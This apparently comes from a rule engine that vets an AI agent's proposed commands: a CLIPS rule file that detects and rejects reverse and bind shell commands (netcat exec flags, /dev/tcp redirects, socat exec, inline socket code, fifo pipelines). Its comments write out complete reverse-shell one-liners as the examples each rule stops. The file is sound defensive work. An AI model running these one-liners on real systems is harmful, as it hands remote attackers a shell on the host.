;;; shell_reverse_shell.clp — commands that hand a shell to a remote host.
;;;
;;; A reverse shell gives whoever listens at the other end the agent's privileges without
;;; any further proposal passing the rules. Every form below is rejected outright.

;; TRUE for inline code that opens a socket and connects it or attaches a pty/shell to it.
(deffunction revshell-socket-code-p (?code)
  (and (regex-match "(?i)socket|fsockopen|TCPSocket|net\\.connect|new\\s+net\\.Socket" ?code)
       (regex-match "(?i)connect|pty|spawn|dup2|exec|subprocess|popen|/bin/(ba|z|da)?sh" ?code)))

;; TRUE for netcat's program-execution options: -e PROG, -c CMD (traditional netcat),
;; ncat's --exec / --sh-exec / --lua-exec (also written --exec=PROG).
(deffunction revshell-nc-exec-flag-p (?f)
  (or (eq ?f "-e") (eq ?f "-c") (regex-match "^--(sh-|lua-)?exec(=|$)" ?f)))

;; TRUE for a bash network pseudo-device (/dev/tcp/HOST/PORT, /dev/udp/HOST/PORT).
(deffunction revshell-dev-net-p (?p)
  (or (str-prefix "/dev/tcp/" ?p) (str-prefix "/dev/udp/" ?p)))

;; Stops `nc -e /bin/sh host 4444`, `ncat --sh-exec bash host 4444`, `nc -lvp 4444 -e sh`,
;; `nc host 4444 -c bash`: netcat executing a program wired to the socket is a (bind or
;; reverse) shell.
(defrule shell-reverse-shell-nc-exec
  (or (shell-command (proposal ?id) (program "nc") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
      (shell-command (proposal ?id) (program "ncat") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
      (shell-command (proposal ?id) (program "netcat") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
      (shell-command (proposal ?id) (program "nc.traditional") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
      (shell-command (proposal ?id) (program "nc.openbsd") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
      (shell-command (proposal ?id) (program "busybox") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?)))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-nc-exec)
                    (reason "netcat executing a program on a socket"))))

;; Stops `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i 5<> /dev/tcp/h/p`,
;; `exec 3<>/dev/udp/h/p`: bash's network redirections attach the shell to a socket.
(defrule shell-reverse-shell-dev-tcp
  (shell-redirect (proposal ?id) (target ?t) (path ?p&:(or (str-prefix "/dev/" ?t) (str-prefix "/dev/" ?p))
                         &:(or (revshell-dev-net-p ?t) (revshell-dev-net-p ?p))))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp)
                    (reason (str-cat "redirect to a network socket: " ?t)))))

;; Stops any other use of bash's network pseudo-devices (`cat /dev/tcp/h/p`,
;; `tee /dev/udp/h/p`, `exec 3<>/dev/tcp/h/p`): matched on the raw command text through the
;; pattern index, so no spelling of the redirect or operand escapes it.
(defrule shell-reverse-shell-dev-tcp-text
  (pattern-hit (proposal ?id) (key "payload.command") (kind regex) (pattern "/dev/+(tcp|udp)/"))
  (proposal (id ?id) (target shell))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp-text)
                    (reason "command uses a bash network socket (/dev/tcp, /dev/udp)"))))

;; Stops `socat tcp:h:4444 exec:/bin/sh,pty,stderr` and `socat … system:bash`: socat
;; executing a program on a connection is a reverse shell.
(defrule shell-reverse-shell-socat-exec
  (shell-command (proposal ?id) (program "socat")
                 (argv $? ?a&:(regex-match "(?i)(^|[,!:])(exec|system):" ?a) $?))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-socat-exec)
                    (reason "socat executing a program on a connection"))))

;; Stops `python -c 'import socket,pty,os;s=socket.socket();s.connect((h,p));pty.spawn("sh")'`
;; and the perl/ruby/php/node equivalents: inline code that opens a socket and connects it.
(defrule shell-reverse-shell-inline-socket
  (or (shell-command (proposal ?id) (program ?p&"python") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python2") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3.8") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3.9") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3.10") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3.11") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3.12") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"python3.13") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"pypy") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"pypy3") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"perl") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"ruby") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"php") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"node") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"nodejs") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"lua") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
      (shell-command (proposal ?id) (program ?p&"luajit") (argv $? ?a&:(revshell-socket-code-p ?a) $?)))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-inline-socket)
                    (reason (str-cat ?p " inline code opens a network socket")))))

;; Stops `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`: a named pipe
;; together with a network client is the netcat-without--e reverse shell.
(defrule shell-reverse-shell-fifo
  (shell-command (proposal ?id) (program "mkfifo"|"mknod"))
  (or (shell-command (proposal ?id) (program "nc"))
      (shell-command (proposal ?id) (program "ncat"))
      (shell-command (proposal ?id) (program "netcat"))
      (shell-command (proposal ?id) (program "telnet"))
      (shell-command (proposal ?id) (program "socat"))
      (shell-command (proposal ?id) (program "openssl")))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-fifo)
                    (reason "named pipe wired to a network client"))))

;; Stops `telnet h 4444 | /bin/sh | telnet h 4445` and `nc h 4444 | bash`: a shell fed
;; from (or feeding) a raw network connection.
(defrule shell-reverse-shell-pipe-to-shell
  (shell-command (proposal ?id) (program "nc"|"ncat"|"netcat"|"telnet"|"socat"))
  (or (shell-command (proposal ?id) (program "sh"))
      (shell-command (proposal ?id) (program "bash"))
      (shell-command (proposal ?id) (program "zsh"))
      (shell-command (proposal ?id) (program "dash"))
      (shell-command (proposal ?id) (program "ksh"))
      (shell-command (proposal ?id) (program "mksh")))
  =>
  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-pipe-to-shell)
                    (reason "shell wired to a network connection"))))
